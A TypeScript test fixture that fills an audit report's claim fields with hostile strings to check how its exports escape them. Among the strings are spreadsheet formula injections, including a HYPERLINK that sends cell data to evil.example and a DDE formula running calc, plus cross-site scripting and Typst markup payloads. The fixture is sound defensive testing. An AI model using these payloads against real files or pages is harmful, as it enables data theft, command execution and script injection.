import { claimFieldsIn } from "@/lib/domain/claim/fields";
import { filledFields } from "@/lib/domain/claim/testing/filled-fields";
import type { AuditReport, ReportClaim } from "@/lib/domain/report/report";
import { sampleReport } from "./sample-report";

const codes = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, i) => from + i);
const joined = (points: readonly number[], between = "x") =>
  points.map((point) => String.fromCodePoint(point)).join(between);

/** What the formats treat specially, by what it tries. Only what the database can hold: no NUL, no lone surrogate. */
export const hostileStrings: Readonly<Record<string, string>> = {
  "an equals sign": "=1+1",
  "a plus": "+1+1",
  "a minus": "-2+3",
  "an at sign": "@SUM(A1)",
  "full-width formula signs": "＝1\n＋1\n－1\n＠x",
  "a tab before a formula": "\t=1+1",
  "a carriage return before a formula": "\r=1+1",
  "a line feed before a formula": "\n=1+1",
  "spaces before a formula": "   =1+1",
  "a quotation mark before a formula": '"=1+1',
  "an apostrophe before a formula": "'=1+1",
  "a formula that fetches": '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "a formula that runs a program": "=cmd|' /C calc'!A0",
  "quotation marks, separators and line ends": 'a "b" ""c"", d; e | f\r\ng\nh\ri\tj',
  "control characters of C0": `a${joined(codes(1, 31))}b\u007f`,
  "control characters of C1": joined(codes(0x80, 0x9f)),
  "what is no character": joined([0xfffe, 0xffff, 0xfdd0, 0xfdef, 0xfffd, 0x1fffe, 0x10ffff]),
  "signs that a workbook reads as control characters": "_x0000_ _x000D_ _x005F_x000D_ __x0041_ _x_",
  "an override of direction that is never closed": "safe \u202eexe.fdp",
  "an isolate that is never closed": "a \u2067b \u2066c",
  "an end of an isolate that was never begun": "a \u2069\u2069 \u202eb",
  "characters without a width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh",
  "variation selectors and tags": "☎\ufe0e ☎\ufe0f ✈\u{e0041}\u{e007f}",
  "emoji of many characters": "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇸🇾 1️⃣ 🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}",
  "characters of four bytes": "𝔘𝕟𝕚 𠀀𠮷 𐍈 𞤀𞤁",
  "letters under a pile of marks": `Z${"\u0351\u0353\u0334".repeat(40)} e\u0301`,
  "typst's markup":
    '#{7*7} #panic() #import "x" $x^2$ *bold* _it_ `raw` <label> @ref = Head\n- item\n+ item\n/ a: b // c /* d */ ~ \\',
  "typst's escapes": '\\u{41} \\" "] #] }} {{ \\\\ --- ... #sys.inputs',
  "the end of a script": '</script><script>alert(1)</script><!-- <script> ]]> --> </style><svg onload="alert(1)">',
  "attributes and entities": '"\' onmouseover=alert(1) x="&lt;b&gt; &#x3c; &nbsp; &amp;amp;',
  "Markdown that runs or loads":
    "[a](javascript:alert(1)) ![b](https://evil.example/b.png) <https://evil.example> [c](data:text/html,x) <b>d</b>",
  "Markdown that nests": `${"> ".repeat(60)}deep ${"*".repeat(300)}`,
  "parentheses and backslashes of a PDF string": "((\\) \\( ) %PDF-1.7 endobj <</Type/Page>> \\101",
  "messages with arguments": "{name} {0} {count, plural, one {#} other {#}} %s %1$s $& $1 {{x}}",
  "an Arabic sentence with Latin words":
    "قال الوزير إن Reuters نشرت 71 تقريراً في 2025-11-09 (انظر https://example.org).",
  "a Hebrew sentence with Latin words": "לפי הדו״ח, NATO פרסם 12 מסמכים.",
  "scripts of all sorts": "中文 日本語 한국어 हिन्दी বাংলা ไทย Ελληνικά Кирилица ქართული አማርኛ தமிழ் ᚠᚢᚦ",
  "a word longer than a page": "https://example.org/".concat("abcdefghij".repeat(400)),
};

/** A report with a claim for each of the strings, which stands wherever that claim has words that somebody wrote. */
export function hostileReport(): AuditReport {
  const report = sampleReport();
  const [sample] = report.claims;
  if (!sample) throw new Error("the sample has no claim");
  const texts = Object.values(hostileStrings);
  const text = texts.join("\n\n");
  let start = 0;
  const ranges = texts.map((each) => {
    const range = { start, end: start + each.length };
    start = range.end + 2;
    return range;
  });
  const claims = texts.map((quote, i) =>
    claimWith(sample, i + 1, { ...(ranges[i] as (typeof ranges)[0]), quote }, quote),
  );
  const [hostile = ""] = [hostileStrings["the end of a script"]];
  const title = `${hostile} ((\\ =1+1 \u202e`;
  return {
    ...report,
    newsroom: { ...report.newsroom, name: title },
    article: { ...report.article, title, byline: "=1+1", language: "en", direction: "ltr" },
    version: {
      ...report.version,
      text,
      blocks: ranges.map((range) => ({ ...range, kind: "paragraph" as const, level: 0 })),
    },
    claims,
    skips: [],
    coverage: { ...report.coverage, unmarked: [] },
    timeline: texts.flatMap((words, i) =>
      report.timeline.map((event) => ({ ...event, claim: i + 1, words, consequences: [words] })),
    ),
  };
}

function claimWith(sample: ReportClaim, number: number, anchor: ReportClaim["anchor"], words: string): ReportClaim {
  const verdict = sample.verdict && { ...sample.verdict, rationale: words, correction: words };
  return {
    ...{ ...sample, id: `claim-${number}`, number, anchor, state: "approved" },
    ...claimFieldsIn(filledFields(() => words)),
    ...{ verdict, verdicts: verdict ? [verdict] : [], changesSinceApproval: [] },
    evidence: sample.evidence.map((piece) => ({
      ...{ ...piece, id: `evidence-${number}`, passage: words, note: words, removedAt: null },
      source: { ...piece.source, title: words, publisher: words, author: words },
      snapshot: piece.snapshot && { ...piece.snapshot, fileName: words, howSeen: null, askedAddress: null },
    })),
    decisions: sample.decisions.map((decision) => ({ ...decision, note: words })),
    dissent: sample.dissent.map((each) => (each.what === "changes-requested" ? { ...each, reason: words } : each)),
  };
}
